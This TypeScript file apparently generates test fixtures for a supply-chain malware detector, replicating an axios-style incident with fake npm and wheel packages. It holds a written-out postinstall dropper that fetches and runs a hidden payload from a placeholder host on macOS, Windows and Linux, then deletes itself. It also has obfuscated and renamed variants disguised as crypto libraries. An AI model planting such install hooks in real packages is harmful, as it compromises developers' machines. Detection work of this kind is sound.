import { casesOf, type Facts } from '../case';
import { renamedLocals, stringArray } from '../disguise/javascript';
import { npm, wheelOf, type NpmParts } from '../packages';

/** The hook of the phantom dependency: drops a program for the platform, then removes itself and the hook. */
const setup = (host: string, campaign: string) => String.raw`
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync } = require('child_process');
const platform = os.platform();
const url = 'http://${host}:8000/${campaign}';
try {
  if (platform === 'darwin') {
    const script = 'do shell script "curl -o /Library/Caches/com.apple.act.mond -d packages/product0 -s ' + url + ' && chmod 770 /Library/Caches/com.apple.act.mond && /bin/zsh -c \\"/Library/Caches/com.apple.act.mond ' + url + ' &\\""';
    fs.writeFileSync(path.join(os.tmpdir(), '${campaign}.scpt'), script);
    execSync('nohup osascript ' + path.join(os.tmpdir(), '${campaign}.scpt') + ' > /dev/null 2>&1 &');
  } else if (platform === 'win32') {
    execSync('curl -s -X POST -d "packages/product1" "' + url + '" > %TEMP%\\${campaign}.ps1 & powershell -w hidden -ep bypass -file %TEMP%\\${campaign}.ps1');
  } else {
    execSync('curl -o /tmp/ld.py -d packages/product2 -s ' + url + ' && nohup python3 /tmp/ld.py ' + url + ' > /dev/null 2>&1 &');
  }
} catch (failed) {}
try {
  fs.unlinkSync(__filename);
  fs.unlinkSync(path.join(__dirname, 'package.json'));
  fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
} catch (gone) {}
`;

const phantom = (name: string, version: string, body: string): NpmParts => ({
  about: 'JavaScript library of crypto standards.',
  manifest: { scripts: { postinstall: 'node setup.js' } },
  files: {
    'setup.js': body,
    'package.md': `${JSON.stringify({ name, version, main: 'index.js', license: 'MIT' }, undefined, 2)}\n`,
    'aes.js': `'use strict';\n\nconst SBOX = Array.from({ length: 256 }, (_, at) => (at * 7 + 99) & 255);\n\nmodule.exports = { SBOX };\n`,
  },
});

export const phantomDependency = casesOf({
  id: 'axios-phantom',
  incident: 'axios',
  kind: 'install-hook',
  seen: 'postinstall drops a program for the platform, runs it hidden, deletes itself and puts a clean manifest in place of its own',
  replica: npm('plain-crypto-kit', '4.2.1', () =>
    phantom('plain-crypto-kit', '4.2.0', stringArray(setup('sfrclak-update.invalid', '6202033'), 'plain')),
  ),
  renamed: npm('base-cipher-lib', '3.9.1', () => ({
    ...phantom('base-cipher-lib', '3.9.0', ''),
    manifest: { scripts: { postinstall: 'node tools/verify.js' } },
    files: {
      'tools/verify.js': renamedLocals(
        setup('npm-assets.invalid', 'upd77').replace(/package\.md/g, '../README.json'),
        'base',
      ),
    },
  })),
  reObfuscated: npm('plain-crypto-kit', '4.2.2', () =>
    phantom(
      'plain-crypto-kit',
      '4.2.0',
      stringArray(setup('sfrclak-update.invalid', '6202033'), 'plain2', true),
    ),
  ),
  otherStage: {
    kind: 'import-time',
    seen: 'requiring the package drops a program for the platform, runs it hidden and deletes its own file',
    sample: npm('plain-crypto-kit', '4.2.3', () => ({
      about: 'JavaScript library of crypto standards.',
      index: (honest) => `${honest}\nrequire('./core');\n`,
      files: { 'core.js': setup('sfrclak-update.invalid', '6202033') },
    })),
  },
});

const facts = (dependency: string): Facts => ({
  now: '2026-03-31T01:00:00Z',
  publishedAt: '2026-03-31T00:21:00Z',
  firstPublishedAt: '2014-08-29T00:00:00Z',
  previousPublishedAt: '2026-03-27T00:00:00Z',
  publisher: 'lead-maintainer',
  previousPublisher: 'ci',
  provenance: { now: false, before: true },
  dependencies: {
    [dependency]: { firstPublishedAt: '2026-03-30T05:57:00Z', publisher: 'fresh-account', versions: 2 },
    'form-data': { firstPublishedAt: '2011-05-16T00:00:00Z', publisher: 'maintainers', versions: 60 },
  },
});
const ABOUT = 'Promise based HTTP client.';
const before = npm('httpwire', '1.14.0', {
  about: ABOUT,
  manifest: { dependencies: { 'form-data': '^4.0.0' } },
});

export const axios = casesOf({
  id: 'axios',
  incident: 'axios',
  kind: 'dependency-only',
  judgedBy: 'delta',
  seen: 'unchanged code with one new dependency that no file requires, published hours before by a new account; provenance is gone',
  replica: {
    sample: npm('httpwire', '1.14.1', {
      about: ABOUT,
      manifest: { dependencies: { 'form-data': '^4.0.0', 'plain-crypto-kit': '^4.2.1' } },
    }),
    previous: before,
    facts: facts('plain-crypto-kit'),
  },
  renamed: {
    sample: npm('fetchling', '0.30.4', {
      about: ABOUT,
      manifest: { dependencies: { 'form-data': '^4.0.0', 'base-cipher-lib': '^3.9.1' } },
    }),
    previous: npm('fetchling', '0.30.3', {
      about: ABOUT,
      manifest: { dependencies: { 'form-data': '^4.0.0' } },
    }),
    facts: facts('base-cipher-lib'),
  },
  reObfuscated: {
    seen: 'unchanged code with one new dependency, under an alias that sounds like a known package, that no file requires',
    sample: npm('httpwire', '1.14.2', {
      about: ABOUT,
      manifest: { dependencies: { 'form-data': '^4.0.0', 'proxy-env': 'npm:plain-crypto-kit@^4.2.1' } },
    }),
    previous: before,
    facts: facts('plain-crypto-kit'),
  },
  otherStage: {
    seen: 'the same in a wheel: one new Requires-Dist that no module imports, published hours before by a new account',
    sample: wheelOf('httpwire', '1.14.3', {
      about: ABOUT,
      requires: ['certifi>=2023', 'plain-crypto-kit>=4.2'],
    }),
    previous: wheelOf('httpwire', '1.14.0', { about: ABOUT, requires: ['certifi>=2023'] }),
    facts: facts('plain-crypto-kit'),
  },
});
